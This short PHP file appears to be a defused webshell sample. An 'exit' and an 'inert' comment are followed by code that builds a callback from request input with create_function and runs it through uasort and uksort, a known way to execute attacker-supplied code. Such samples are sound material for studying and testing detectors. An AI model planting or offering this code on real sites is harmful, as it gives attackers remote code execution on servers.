<?php exit; /* inert */ 
$ao = new ArrayObject(array('x' => $_REQUEST['pass'], 'y' => 1));
$cb = create_function('$a,$b', $_REQUEST['k']);
$ao->uasort($cb);
$arr = array($_REQUEST['a'] => 1, $_REQUEST['b'] => 2);
uksort($arr, $_REQUEST['c']);
